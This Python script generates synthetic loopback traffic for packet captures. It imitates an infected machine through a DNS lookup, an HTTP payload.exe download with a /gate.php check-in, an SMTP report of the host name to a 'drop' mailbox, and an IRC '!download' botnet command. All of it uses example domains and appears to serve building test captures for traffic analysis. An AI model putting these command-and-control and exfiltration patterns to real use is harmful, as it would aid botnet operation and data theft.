#!/usr/bin/env python3
"""Loopback traffic for make-captures.sh: DNS, HTTP (keep-alive, chunked, gzip), SMTP and IRC.

Servers listen on high loopback ports; rewrite.py later maps them to the well-known ports and
to public-looking addresses, so the capture reads like a guest talking to the Internet.
"""
import gzip
import socket
import struct
import threading
import time

DNS_PORT, HTTP_PORT, SMTP_PORT, IRC_PORT = 10053, 18080, 12525, 16667
ANSWERS = {"update.example.net": "198.51.100.0", "mail.example.org": "0.0.0.0", "irc.example.com": "0.0.0.0"}


def dns_server(sock):
    while True:
        data, peer = sock.recvfrom(512)
        qid, = struct.unpack(">H", data[:2])
        end = data.index(b"\0", 12) + 5
        question = data[12:end]
        name = ".".join(p.decode() for p in _labels(data[12:end - 4]))
        answer = b""
        count = 0
        if name in ANSWERS:
            answer = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 300, 4) + bytes([93, 184, 216, 34])
            count = 1
        header = struct.pack(">HHHHHH", qid, 0x8180, 1, count, 0, 0)
        sock.sendto(header + question + answer, peer)


def _labels(raw):
    i = 0
    while i < len(raw) and raw[i]:
        n = raw[i]
        yield raw[i + 1:i + 1 + n]
        i += 1 + n


def dns_query(name):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(q, ("127.0.0.1", DNS_PORT))
    s.recvfrom(512)
    s.close()


def http_server(listener):
    while True:
        conn, _ = listener.accept()
        threading.Thread(target=http_conn, args=(conn,), daemon=True).start()


def http_conn(conn):
    buf = b""
    while True:
        while b"\r\n\r\n" not in buf:
            try:
                chunk = conn.recv(65536)
            except ConnectionResetError:
                chunk = b""
            if not chunk:
                conn.close()
                return
            buf += chunk
        head, buf = buf.split(b"\r\n\r\n", 1)
        length = 0
        for line in head.split(b"\r\n")[1:]:
            k, v = line.split(b":", 1)
            if k.lower() == b"content-length":
                length = int(v)
        while len(buf) < length:
            buf += conn.recv(65536)
        buf = buf[length:]
        path = head.split(b" ")[1]
        if path.startswith(b"/chunked"):
            body = b"chunked body, part one;" + b" part two."
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n")
            conn.sendall(b"17\r\n" + body[:23] + b"\r\n")
            conn.sendall(b"%x\r\n" % (len(body) - 23) + body[23:] + b"\r\n0\r\n\r\n")
        elif path.startswith(b"/gzip"):
            body = gzip.compress(b"<html><body>compressed page</body></html>", mtime=0)
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
        else:
            body = b"MZ" + bytes(range(256)) * 8
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n" % len(body) + body)


def http_client():
    s = socket.create_connection(("127.0.0.1", HTTP_PORT))
    ua = b"Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)"
    for path in (b"/payload.exe", b"/chunked", b"/gzip"):
        s.sendall(b"GET " + path + b" HTTP/1.1\r\nHost: update.example.net\r\nUser-Agent: " + ua + b"\r\nConnection: keep-alive\r\n\r\n")
        time.sleep(0.2)
    body = b"id=4242&os=win7"
    s.sendall(b"POST /gate.php HTTP/1.1\r\nHost: update.example.net\r\nUser-Agent: " + ua + b"\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    time.sleep(0.2)
    s.close()


def smtp_server(listener):
    conn, _ = listener.accept()
    f = conn.makefile("rb")
    conn.sendall(b"220 mail.example.org ESMTP ready\r\n")
    data_mode = False
    for line in f:
        if data_mode:
            if line == b".\r\n":
                data_mode = False
                conn.sendall(b"250 2.0.0 queued\r\n")
            continue
        cmd = line[:4].upper()
        if cmd == b"EHLO":
            conn.sendall(b"250-mail.example.org\r\n250 AUTH LOGIN PLAIN\r\n")
        elif cmd == b"AUTH":
            conn.sendall(b"334 UGFzc3dvcmQ6\r\n")
        elif cmd == b"DATA":
            data_mode = True
            conn.sendall(b"354 end with .\r\n")
        elif cmd == b"QUIT":
            conn.sendall(b"221 bye\r\n")
            break
        elif line.startswith(b"c2Vj"):
            conn.sendall(b"235 2.7.0 authenticated\r\n")
        else:
            conn.sendall(b"250 OK\r\n")
    conn.close()


def smtp_client():
    s = socket.create_connection(("127.0.0.1", SMTP_PORT))
    f = s.makefile("rb")
    def say(line, replies=1):
        if line:
            s.sendall(line)
        for _ in range(replies):
            reply = f.readline()
            while reply[3:4] == b"-":
                reply = f.readline()
    say(None)
    say(b"EHLO WIN-GUEST\r\n")
    say(b"AUTH LOGIN Ym90QGV4YW1wbGUub3Jn\r\n")
    say(b"c2VjcmV0\r\n")
    say(b"MAIL FROM:<bot@example.org>\r\n")
    say(b"RCPT TO:<drop@example.org>\r\n")
    say(b"DATA\r\n")
    say(b"From: <bot@example.org>\r\nTo: <drop@example.org>\r\nSubject: report\r\n\r\nhost=WIN-GUEST\r\n.\r\n")
    say(b"QUIT\r\n")
    s.close()


def irc_server(listener):
    conn, _ = listener.accept()
    f = conn.makefile("rb")
    for line in f:
        if line.startswith(b"USER"):
            conn.sendall(b":irc.example.com 001 bot42 :Welcome to the network bot42\r\n")
        elif line.startswith(b"JOIN"):
            conn.sendall(b":bot42!bot@guest JOIN #cmd\r\n:herder!h@example.com PRIVMSG #cmd :!download http://update.example.net/payload.exe\r\n")
        elif line.startswith(b"QUIT"):
            break
    conn.close()


def irc_client():
    s = socket.create_connection(("127.0.0.1", IRC_PORT))
    for line in (b"NICK bot42\r\n", b"USER bot42 0 * :bot\r\n", b"JOIN #cmd\r\n", b"PRIVMSG #cmd :ready\r\n", b"QUIT :bye\r\n"):
        s.sendall(line)
        time.sleep(0.2)
    s.close()


def listen(port):
    l = socket.socket()
    l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    l.bind(("127.0.0.1", port))
    l.listen(5)
    return l


def main():
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", DNS_PORT))
    threading.Thread(target=dns_server, args=(udp,), daemon=True).start()
    threading.Thread(target=http_server, args=(listen(HTTP_PORT),), daemon=True).start()
    threading.Thread(target=smtp_server, args=(listen(SMTP_PORT),), daemon=True).start()
    threading.Thread(target=irc_server, args=(listen(IRC_PORT),), daemon=True).start()
    time.sleep(0.3)
    for name in ANSWERS:
        dns_query(name)
    dns_query("nonexistent.example.invalid")
    http_client()
    smtp_client()
    irc_client()
    time.sleep(0.5)


if __name__ == "__main__":
    main()
